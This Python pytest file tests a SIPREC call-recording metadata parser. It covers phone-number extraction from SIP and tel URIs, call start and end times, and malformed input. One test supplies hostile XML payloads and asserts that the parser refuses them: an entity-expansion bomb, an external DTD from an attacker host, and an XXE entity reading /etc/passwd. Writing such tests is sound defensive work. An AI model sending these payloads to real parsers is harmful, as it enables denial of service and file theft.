"""SIPREC metadata (RFC 7865): the section 8 shaped samples, phone numbers from SIP/tel URIs, time rules and
hostile or malformed XML."""

from __future__ import annotations

from datetime import timedelta, timezone
from pathlib import Path

import pytest

from archive.ingest.record import InvalidMetadata, validate
from archive.ingest.siprec import parse_siprec, phone_from_uri

FIXTURES = Path(__file__).parent / "fixtures" / "siprec"
SESSION = "hVpd7YQgRW2nD22h7q60JQ=="


def load(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def merged(partial: dict, sidecar: dict) -> dict:
    """What the caller does: the sidecar fills in what the recording metadata cannot know."""
    doc = {**sidecar, **partial}
    doc["source_fields"] = {**sidecar.get("source_fields", {}), **partial.get("source_fields", {})}
    return validate(doc)


def test_complete_metadata():
    meta = parse_siprec(load("complete.xml"))
    assert meta["source"] == {"system": "siprec", "interaction_id": SESSION}
    assert meta["channel"] == "phone"
    assert meta["started_at"] == "2025-03-04T09:13:02+08:00"  # earliest association; the group's is not the call's
    assert "ended_at" not in meta
    assert meta["participants"] == [
        {"role": "other", "id": "sip:+8613800138000@ims.mnc000.mcc460.3gppnetwork.org;user=phone", "name": "张伟",
         "phone": "+8613800138000", "attributes": {"participant_id": "srfBElmCRp2QB23b7Mpk0w=="}},
        {"role": "other", "id": "sip:+862160881234@sbc.broker.example.com;user=phone", "name": "Li Na",
         "phone": "+862160881234", "attributes": {"participant_id": "zSfPoSvdSDCmU3A3TRDxAw==", "aors": [
             "sip:+862160881234@sbc.broker.example.com;user=phone", "sip:lina@broker.example.com"]}}]
    sf = meta["source_fields"]
    assert sf["datamode"] == "complete"
    assert sf["session_ids"] == [SESSION]
    assert sf["sip_session_ids"] == ["ab30317f1a784dc48ff824d0d3715d86;remote=47755a9de7794ba387653f2099600ef2"]
    assert sf["group_id"] == "7+OTCyoxTmqmqyA/1weDAg=="
    assert sf["stream_labels"] == {"UAAMm5GRQKSCMVvLyl4rFw==": "96", "i1Pz3to5hGk8fuXl+PbwCw==": "97",
                                   "8zc6e0lYTlWIINA6GR+3ag==": "98", "EiXGlc+4TruqqoDaNE76ag==": "99"}
    assert sf["participant_aors"]["srfBElmCRp2QB23b7Mpk0w=="] == [
        "sip:+8613800138000@ims.mnc000.mcc460.3gppnetwork.org;user=phone"]
    assert sf["participant_streams"]["zSfPoSvdSDCmU3A3TRDxAw=="]["send"] == ["8zc6e0lYTlWIINA6GR+3ag==",
                                                                           "EiXGlc+4TruqqoDaNE76ag=="]
    assert sf["participant_times"]["zSfPoSvdSDCmU3A3TRDxAw=="] == {"associate_time": "2025-03-04T09:13:04.250000+08:00"}
    record = merged(meta, {"business_line": "wealth", "source_fields": {"queue": "vip"}})
    assert record["started_at"] == meta["started_at"] and record["source_fields"]["queue"] == "vip"


def test_partial_update_ends_the_call():
    meta = parse_siprec(load("partial.xml"))
    assert meta["source"]["interaction_id"] == SESSION
    assert "started_at" not in meta  # a supervisor joining mid-call is not the start of the call
    assert meta["ended_at"] == "2025-03-04T01:27:45+00:00"
    assert meta["participants"] == [{"role": "other", "id": "tel:+86-21-6088-1200", "name": "王主管",
                                     "phone": "+862160881200",
                                     "attributes": {"participant_id": "kdWD0ilwSCKF0AP/2TLnFg=="}}]
    assert meta["source_fields"]["datamode"] == "partial"
    record = merged(meta, {"started_at": "2025-03-04T09:13:02+08:00"})
    assert record["ended_at"] == "2025-03-04T01:27:45+00:00"
    with pytest.raises(InvalidMetadata) as e:  # the sidecar cannot start the call after it ended
        merged(meta, {"started_at": "2025-03-04T09:30:00+08:00"})
    assert e.value.field == "ended_at"


def test_complete_snapshot_with_everyone_gone_has_an_end():
    xml = load("complete.xml").replace(
        b"<associate-time>2025-03-04T09:13:02+08:00</associate-time>\n  </participantsessionassoc>",
        b"<associate-time>2025-03-04T09:13:02+08:00</associate-time>\n"
        b"    <disassociate-time>2025-03-04T09:20:00+08:00</disassociate-time></participantsessionassoc>")
    assert "ended_at" not in parse_siprec(xml)  # one participant left, the other is still there
    xml = xml.replace(b"<associate-time>2025-03-04T09:13:04.250+08:00</associate-time>",
                      b"<associate-time>2025-03-04T09:13:04.250+08:00</associate-time>"
                      b"<disassociate-time>2025-03-04T09:25:10+08:00</disassociate-time>")
    assert parse_siprec(xml)["ended_at"] == "2025-03-04T09:25:10+08:00"


@pytest.mark.parametrize("uri, phone", [
    ("sip:+8613800138000@ims.example.cn;user=phone", "+8613800138000"),
    ("<sips:+8613800138000@ims.example.cn>", "+8613800138000"),
    ("sip:+86-138-0013-8000;ext=12@ims.example.cn", "+8613800138000"),
    ("tel:+86-21-6088-1200", "+862160881200"),
    ("tel:+1-(212)-555-0100;phone-context=+1", "+12125550100"),
    ("sip:%2B8613800138000@ims.example.cn", "+8613800138000"),
    ("sip:13800138000@ims.example.cn", None),  # national number: not guessed
    ("tel:6088-1200;phone-context=+86-21", None),  # local number
    ("sip:bob@biloxi.example.com", None),
    ("sip:ims.example.cn", None),
    ("mailto:bob@example.com", None),
    ("", None),
])
def test_phone_from_uri(uri, phone):
    assert phone_from_uri(uri) == phone


def test_naive_times_need_a_zone():
    xml = load("complete.xml").replace(b"+08:00</associate-time>", b"</associate-time>")
    with pytest.raises(InvalidMetadata) as e:
        parse_siprec(xml)
    assert e.value.field == "sessionrecordingassoc[0].associate-time"
    meta = parse_siprec(xml, assume_tz=timezone(timedelta(hours=8)))
    assert meta["started_at"] == "2025-03-04T09:13:02+08:00"


def test_draft_namespace_as_older_sbcs_write_it():
    xml = b"""<?xml version='1.0' encoding='UTF-8'?>
<recording xmlns='urn:ietf:params:xml:ns:recording'>
  <dataMode>complete</dataMode>
  <session id="urn:uuid:79b2fcd8-5c7f-455c-783f-db334e5d57d0">
    <start-time>2025-03-04T01:13:02Z</start-time>
  </session>
  <participant id="urn:uuid:10ac9063" session="urn:uuid:79b2fcd8-5c7f-455c-783f-db334e5d57d0">
    <aor>sip:+8613900139000@10.0.0.1</aor>
    <name>caller</name>
  </participant>
</recording>"""
    meta = parse_siprec(xml)
    assert meta["source"]["interaction_id"] == "urn:uuid:79b2fcd8-5c7f-455c-783f-db334e5d57d0"
    assert meta["started_at"] == "2025-03-04T01:13:02+00:00"
    assert meta["participants"][0]["phone"] == "+8613900139000" and meta["participants"][0]["name"] == "caller"
    assert meta["source_fields"]["namespace"] == "urn:ietf:params:xml:ns:recording"


@pytest.mark.parametrize("xml", [
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
    b'<recording xmlns="urn:ietf:params:xml:ns:recording:1"><datamode>&lol2;</datamode></recording>',
    b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">'
    b'<recording xmlns="urn:ietf:params:xml:ns:recording:1"/>',
    b'<!DOCTYPE recording><recording xmlns="urn:ietf:params:xml:ns:recording:1"/>',
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<recording xmlns="urn:ietf:params:xml:ns:recording:1">&x;</recording>'.encode("utf-16"),
])
def test_doctype_and_entities_are_refused(xml):
    with pytest.raises(InvalidMetadata) as e:
        parse_siprec(xml)
    assert e.value.field == "(xml)"
    assert "refused" in str(e.value)


def test_malformed_xml_names_line_and_column():
    xml = load("complete.xml").replace(b"</session>", b"</sesion>")
    with pytest.raises(InvalidMetadata) as e:
        parse_siprec(xml)
    assert e.value.field == "(xml)"
    assert e.value.details["line"] == 21 and "line 21, column" in str(e.value)
    with pytest.raises(InvalidMetadata) as e:
        parse_siprec(b"")
    assert e.value.field == "(xml)"


@pytest.mark.parametrize("xml", [b"<recording/>", b'<session xmlns="urn:ietf:params:xml:ns:recording:1"/>',
                                 b'<x:recording xmlns:x="urn:example:other"/>'])
def test_not_siprec_metadata(xml):
    with pytest.raises(InvalidMetadata) as e:
        parse_siprec(xml)
    assert e.value.field == "(xml)"


def test_nothing_identifies_the_session():
    with pytest.raises(InvalidMetadata) as e:
        parse_siprec(b'<recording xmlns="urn:ietf:params:xml:ns:recording:1"><datamode>partial</datamode>'
                     b'</recording>')
    assert e.value.field == "source.interaction_id"


def test_bad_time_is_named():
    xml = load("partial.xml").replace(b"2025-03-04T01:27:45Z</stop-time>", b"soon</stop-time>")
    with pytest.raises(InvalidMetadata) as e:
        parse_siprec(xml)
    assert e.value.field == "session[0].stop-time"
